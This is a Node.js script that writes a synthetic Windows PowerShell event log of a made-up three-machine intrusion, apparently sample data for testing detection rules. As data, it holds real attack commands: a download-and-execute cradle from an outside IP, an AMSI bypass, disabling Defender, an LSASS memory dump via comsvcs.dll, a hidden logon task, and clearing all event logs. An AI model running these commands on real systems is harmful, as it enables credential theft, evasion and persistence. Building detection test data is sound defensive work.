// Writes samples/intrusion.xml: a made-up intrusion over three machines, with the harmless scripts around it.
// Usage: node scripts/sample.mjs

import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { eventsXml } from "./events.mjs";

const WS = "WS117.corp.example";
const FS = "FS03.corp.example";
const DC = "DC01.corp.example";
const USER = "S-1-5-21-3623811015-3361044348-30300820-1104";
const ADMIN = "S-1-5-21-3623811015-3361044348-30300820-500";

/** When, where, who, what. @type {[string, string, string, string][]} */
const STORY = [
  ["06:00:01.1180000", WS, USER, "prompt"],
  [
    "06:02:47.9031220",
    WS,
    USER,
    "Get-ChildItem -Path $env:USERPROFILE\\Documents -Filter *.xlsx | Sort-Object LastWriteTime",
  ],
  [
    "06:11:30.4410070",
    WS,
    USER,
    "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
  ],
  ["06:11:31.0120930", WS, USER, "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"],
  [
    "06:11:33.5500210",
    WS,
    USER,
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
  ],
  ["06:13:02.7702340", WS, USER, "Set-MpPreference -DisableRealtimeMonitoring $true"],
  [
    "06:13:52.0830000",
    FS,
    ADMIN,
    "Enable-PSRemoting -Force\r\nSet-Item WSMan:\\localhost\\Client\\TrustedHosts -Value '*' -Force",
  ],
  [
    "06:15:10.3320010",
    FS,
    ADMIN,
    "Enable-PSRemoting -Force\r\nSet-Item WSMan:\\localhost\\Client\\TrustedHosts -Value '*' -Force",
  ],
  ["06:20:44.1000000", FS, ADMIN, "Invoke-Command -ComputerName DC01 -ScriptBlock { Get-Process lsass }"],
  [
    "06:22:05.6040330",
    DC,
    ADMIN,
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\Windows\\Temp\\d.dmp full",
  ],
  [
    "06:24:18.2200000",
    DC,
    ADMIN,
    "Register-ScheduledTask -TaskName 'Updater' -Action (New-ScheduledTaskAction -Execute powershell.exe -Argument '-nop -w hidden') -Trigger (New-ScheduledTaskTrigger -AtLogOn)",
  ],
  ["06:31:59.9990000", DC, ADMIN, "Get-WinEvent -ListLog * | ForEach-Object { Clear-EventLog -LogName $_.LogName }"],
  [
    "06:40:00.0000000",
    FS,
    ADMIN,
    "Get-Service | Where-Object Status -eq 'Running' | Export-Csv services.csv -NoTypeInformation",
  ],
];

const events = STORY.map(([clock, computer, user, text], index) => ({
  text,
  computer,
  user,
  time: `2026-08-08T${clock}Z`,
  record: 4_100 + index,
  scriptBlockId: `3f2a9c10-77aa-4c1e-9b1d-${String(index + 1).padStart(12, "0")}`,
}));

// A script that is longer than one event: its parts are joined before rules look at it.
const long = `function Get-Inventory {\r\n${"  # collects what is installed\r\n".repeat(40)}  Get-CimInstance Win32_Product\r\n}\r\n`;
const half = Math.floor(long.length / 2);
const parts = [long.slice(0, half), long.slice(half)].map((text, index) => ({
  text,
  computer: FS,
  user: ADMIN,
  time: `2026-08-08T06:41:0${index}.5000000Z`,
  record: 4_200 + index,
  scriptBlockId: "3f2a9c10-77aa-4c1e-9b1d-0000000000ff",
  part: index + 1,
  total: 2,
}));

const folder = join(import.meta.dirname, "../samples");
mkdirSync(folder, { recursive: true });
writeFileSync(join(folder, "intrusion.xml"), eventsXml([...events, ...parts]));
